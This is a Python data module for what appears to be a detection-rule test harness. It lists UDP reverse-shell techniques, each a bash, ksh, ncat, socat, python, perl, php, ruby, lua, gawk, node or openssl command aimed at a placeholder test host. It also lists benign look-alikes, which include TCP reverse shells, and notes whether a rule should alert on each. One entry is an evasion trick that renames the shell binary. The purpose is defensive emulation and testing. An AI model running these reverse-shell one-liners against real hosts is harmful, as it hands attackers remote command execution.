"""Reverse-shell techniques and benign look-alikes, as data.

Each :class:`Technique` is one command line an attacker (or an innocent script) would type, with
placeholders for the test host: ``@HOST4@``, ``@HOST6@``, ``@UDP@`` (53001), ``@TCP@`` (53002),
``@UDPB@`` (53003: the listener sends one byte per datagram, for bash), ``@DNS@`` (53),
``@METRICS@`` (8125) and ``@TMP@`` (a private scratch directory). Names match the
scenarios of the recording ``udp-shells-1`` where the technique is the same, so the matrix can be
compared with that recording's ``scenarios.json``.

``real`` says whether the technique *is* a UDP reverse shell (the rule should alert); benign
look-alikes must raise nothing. ``tools`` are the executables that must exist (else: skipped);
``probe`` is an optional extra command that must succeed (e.g. LuaSocket being installed).
Placeholders are ``@X@`` rather than ``{x}`` or ``$x`` because the commands are full of braces
and dollar signs.
"""

from __future__ import annotations

import shutil
import subprocess
from collections.abc import Mapping
from dataclasses import dataclass


@dataclass(frozen=True)
class Technique:
    """One emulated behaviour: a command line, what it needs, and what a detector should say."""

    name: str
    argv: tuple[str, ...]
    real: bool
    note: str
    tools: tuple[str, ...] = ()
    probe: tuple[str, ...] | None = None
    probe_note: str = ""  # what a failed probe means, for the "skipped" message
    timeout: float = 4.0
    tags: tuple[str, ...] = ()

    def command(self, values: Mapping[str, str]) -> list[str]:
        """The argv with ``@NAME@`` placeholders filled from ``values`` (keys upper-case)."""
        out = []
        for arg in self.argv:
            for key, val in values.items():
                arg = arg.replace(f"@{key.upper()}@", val)
            out.append(arg)
        return out

    def missing_tools(self, path: str | None = None) -> list[str]:
        """Tools this technique needs that are not installed (``[]`` = runnable)."""
        missing = [t for t in self.tools if shutil.which(t, path=path) is None]
        if not missing and self.probe is not None:
            try:
                ok = subprocess.run(list(self.probe), capture_output=True, timeout=10).returncode == 0
            except (OSError, subprocess.TimeoutExpired):
                ok = False
            if not ok:
                missing.append(self.probe_note or " ".join(self.probe))
        return missing


def _sh(cmd: str) -> tuple[str, ...]:
    return ("sh", "-c", cmd)


def _bash(cmd: str) -> tuple[str, ...]:
    return ("bash", "-c", cmd)


_PY_DUP = (
    "import socket,os;s=socket.socket(socket.{fam},socket.SOCK_DGRAM);s.connect((\"{host}\",@UDP@));"
    "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);os.system(\"sh -i\")"
)

#: The catalogue. Order = run order (real shells first, then look-alikes).
TECHNIQUES: tuple[Technique, ...] = (
    # ---- real UDP reverse shells ------------------------------------------------------------
    Technique("bash_dev_udp", _bash("bash -i >& /dev/udp/@HOST4@/@UDPB@ 0>&1"), True,
              "bash redirect to /dev/udp", ("bash",), tags=("shell",)),
    Technique("bash_dev_udp_ipv6", _bash("bash -i >& /dev/udp/@HOST6@/@UDPB@ 0>&1"), True,
              "bash /dev/udp, IPv6 destination", ("bash",), tags=("shell", "ipv6")),
    Technique("bash_exec_fd_udp",
              _bash("exec 5<>/dev/udp/@HOST4@/@UDP@; cat <&5 | while read l; do $l 2>&5 >&5; done"),
              True, "exec on a /dev/udp descriptor (fd 5), as recorded; it never speaks first, so it runs until "
              "the timeout", ("bash", "cat"), timeout=2.5,
              tags=("shell",)),
    Technique("ksh_dev_udp", ("ksh", "-c", "ksh -i > /dev/udp/@HOST4@/@UDP@ 2>&1 0>&1"), True,
              "ksh /dev/udp", ("ksh",), tags=("shell",)),
    Technique("ksh_dev_udp_ipv6", ("ksh", "-c", "ksh -i > /dev/udp/@HOST6@/@UDP@ 2>&1 0>&1"), True,
              "ksh /dev/udp, IPv6 destination", ("ksh",), tags=("shell", "ipv6")),
    Technique("ncat_udp_exec", ("ncat", "--udp", "@HOST4@", "@UDP@", "-e", "/bin/sh"), True,
              "ncat --udp -e (the shell never speaks first: runs until the timeout)", ("ncat",),
              timeout=2.5, tags=("relay",)),
    Technique("nc_openbsd_udp_fifo",
              _sh("rm -f @TMP@/rsf; mkfifo @TMP@/rsf; cat @TMP@/rsf | sh -i 2>&1 | nc.openbsd -u @HOST4@ @UDP@ > @TMP@/rsf"),
              True, "mkfifo + OpenBSD nc -u (socket type 802)", ("nc.openbsd", "mkfifo"), timeout=3.0,
              tags=("relay",)),
    Technique("socat_udp_exec", ("socat", "udp:@HOST4@:@UDP@", "exec:sh -i,stderr"), True,
              "socat udp exec", ("socat",), tags=("relay",)),
    Technique("python_udp_dup2", ("python3", "-c", _PY_DUP.format(fam="AF_INET", host="@HOST4@")), True,
              "python socket module (SOCK_CLOEXEC: a1=80002)", ("python3",), tags=("interpreter",)),
    Technique("python_udp_ipv6", ("python3", "-c", _PY_DUP.format(fam="AF_INET6", host="@HOST6@")), True,
              "python IPv6 UDP", ("python3",), tags=("interpreter", "ipv6")),
    Technique("perl_udp",
              ("perl", "-e", "use Socket;socket(S,PF_INET,SOCK_DGRAM,getprotobyname(\"udp\"));"
               "connect(S,sockaddr_in(@UDP@,inet_aton(\"@HOST4@\")));open(STDIN,\">&S\");open(STDOUT,\">&S\");"
               "open(STDERR,\">&S\");exec(\"/bin/sh -i\");"),
              True, "perl Socket (SOCK_CLOEXEC: a1=80002)", ("perl",), tags=("interpreter",)),
    Technique("php_udp",
              ("php", "-r", "$s=fsockopen(\"udp://@HOST4@\",@UDP@);$p=proc_open(\"sh -i\",[0=>$s,1=>$s,2=>$s],$pipes);"
               "proc_close($p);"),
              True, "php fsockopen udp + proc_open", ("php",), tags=("interpreter",)),
    Technique("ruby_udp",
              ("ruby", "-rsocket", "-e", "c=UDPSocket.new;c.connect(\"@HOST4@\",@UDP@);c.send(\"$ \",0);"
               "while(cmd=c.recv(100));break if cmd.strip==\"exit\";c.send(`#{cmd}`,0);end"),
              True, "ruby UDPSocket (a1=80802), commands via backticks", ("ruby",), tags=("interpreter",)),
    Technique("lua_udp",
              ("lua5.4", "-e", "local s=require(\"socket\").udp();s:setpeername(\"@HOST4@\",@UDP@);s:send(\"$ \");"
               "local c=s:receive();if c then s:send(io.popen(c):read(\"*a\")) end"),
              True, "lua LuaSocket udp + io.popen", ("lua5.4",), probe=("lua5.4", "-e", "require('socket')"),
              probe_note="LuaSocket (Debian: lua-socket)",
              tags=("interpreter",)),
    Technique("gawk_inet_udp",
              ("gawk", "BEGIN{s=\"/inet/udp/0/@HOST4@/@UDP@\";printf \"$ \" |& s;s |& getline c;"
               "while((c |& getline l)>0) print l |& s;close(c)}"),
              True, "gawk /inet/udp (process.name gawk, not awk)", ("gawk",), tags=("interpreter",)),
    Technique("openssl_dtls",
              _sh("rm -f @TMP@/dtls; mkfifo @TMP@/dtls; sh -i < @TMP@/dtls 2>&1 | "
                  "openssl s_client -quiet -dtls1_2 -connect @HOST4@:@UDP@ > @TMP@/dtls"),
              True, "openssl s_client -dtls1_2 relaying a shell through a fifo", ("openssl", "mkfifo"),
              timeout=3.0, tags=("relay",)),
    Technique("node_udp",
              ("node", "-e", "const d=require(\"dgram\").createSocket(\"udp4\");d.connect(@UDP@,\"@HOST4@\",()=>{"
               "d.send(\"$ \");d.on(\"message\",m=>{if(String(m).trim()==\"exit\")process.exit();"
               "d.send(require(\"child_process\").execSync(String(m)))})})"),
              True, "node dgram (a1=80802; not in the seed rule's list)", ("node",), tags=("interpreter",)),
    Technique("busybox_nc_udp", ("busybox", "nc", "-u", "@HOST4@", "@UDP@", "-e", "/bin/sh"), True,
              "busybox nc -u -e (process.name busybox); needs a busybox built with UDP support in nc",
              ("busybox",), probe=("sh", "-c", "busybox nc --help 2>&1 | grep -q -e ' -u'"),
              probe_note="busybox nc without UDP (-u) support", timeout=2.5,
              tags=("relay",)),
    Technique("renamed_bash_udp",
              _sh("cp \"$(command -v bash)\" @TMP@/kworkr; @TMP@/kworkr -c \"@TMP@/kworkr -i >& /dev/udp/@HOST4@/@UDPB@ 0>&1\""),
              True, "renamed interpreter copy (evasion)", ("bash",), tags=("shell", "evasion")),
    # ---- benign look-alikes -----------------------------------------------------------------
    Technique("bash_dev_tcp", _bash("bash -i >& /dev/tcp/@HOST4@/@TCP@ 0>&1"), False,
              "TCP reverse shell, not UDP", ("bash",), tags=("tcp",)),
    Technique("python_tcp",
              ("python3", "-c", "import socket,os;s=socket.socket();s.connect((\"@HOST4@\",@TCP@));"
               "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);os.system(\"sh -i\")"),
              False, "TCP python reverse shell", ("python3",), tags=("tcp",)),
    Technique("ncat_tcp", ("ncat", "@HOST4@", "@TCP@", "-e", "/bin/sh"), False, "TCP ncat -e", ("ncat",),
              tags=("tcp",)),
    Technique("python_dns_query_external",
              ("python3", "-c", "import socket;s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.connect((\"@HOST4@\",@DNS@));"
               "s.send(b\"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01\")"),
              False, "DNS query by python to a non-loopback resolver", ("python3",), tags=("lookalike",)),
    Technique("bash_udp_metrics", _bash("echo \"emulate.metric:1|c\" > /dev/udp/@HOST4@/@METRICS@"), False,
              "a statsd metrics line written to /dev/udp by bash", ("bash",), tags=("lookalike",)),
    Technique("bash_udp_metrics_script",
              _bash("echo \"emulate.metric:1|c\" > /dev/udp/@HOST4@/@METRICS@; date > /dev/null; uname -a > /dev/null"),
              False, "a script: metrics line to /dev/udp, then more commands", ("bash", "date", "uname"),
              tags=("lookalike",)),
    Technique("bash_udp_loopback", _bash("echo hi > /dev/udp/127.0.0.1/@UDP@"), False,
              "loopback destination", ("bash",), tags=("lookalike",)),
    Technique("bash_udp_multicast", _bash("echo hi > /dev/udp/224.0.0.251/5353"), False,
              "multicast destination", ("bash",), tags=("lookalike",)),
    Technique("python_udp_sendto_no_connect",
              ("python3", "-c", "import socket;s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.sendto(b\"x\",(\"@HOST4@\",@UDP@))"),
              False, "sendto without connect", ("python3",), tags=("lookalike",)),
    Technique("child_does_network",
              _bash("python3 -c 'import socket;s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.connect((\"@HOST4@\",@UDP@))'; true"),
              False, "a shell starts a child that connects UDP", ("bash", "python3"), tags=("lookalike",)),
    Technique("curl_tcp", _sh("curl -s -m 2 http://@HOST4@:@TCP@/ >/dev/null || true"), False, "TCP client",
              ("curl",), tags=("tcp",)),
)

#: What the seed rule does on the same scenario in the reference recording udp-shells-1
#: (``seed_rule_alerts`` in its scenarios.json); the matrix compares this machine against it.
#: tests/emulate checks this table against the recording's file when it is available.
RECORDED_SEED_ALERTS: dict[str, bool] = {
    "bash_dev_udp": True, "bash_exec_fd_udp": True, "ksh_dev_udp": True, "bash_dev_udp_ipv6": True,
    "ncat_udp_exec": True, "nc_openbsd_udp_fifo": False, "socat_udp_exec": True, "python_udp_dup2": False,
    "python_udp_ipv6": False, "perl_udp": False, "php_udp": True, "ruby_udp": False, "lua_udp": True,
    "gawk_inet_udp": False, "openssl_dtls": True, "busybox_nc_udp": False, "renamed_bash_udp": False,
    "node_udp": False, "bash_dev_tcp": False, "python_tcp": False, "ncat_tcp": False,
    "python_dns_query_external": False, "bash_udp_loopback": False, "bash_udp_multicast": False,
    "python_udp_sendto_no_connect": False, "child_does_network": False, "curl_tcp": False,
}

BY_NAME: dict[str, Technique] = {t.name: t for t in TECHNIQUES}


def select(names: list[str] | tuple[str, ...] | None) -> list[Technique]:
    """The techniques called ``names`` (all when empty); unknown names raise ``KeyError``."""
    if not names:
        return list(TECHNIQUES)
    unknown = [n for n in names if n not in BY_NAME]
    if unknown:
        raise KeyError(", ".join(unknown))
    return [BY_NAME[n] for n in names]
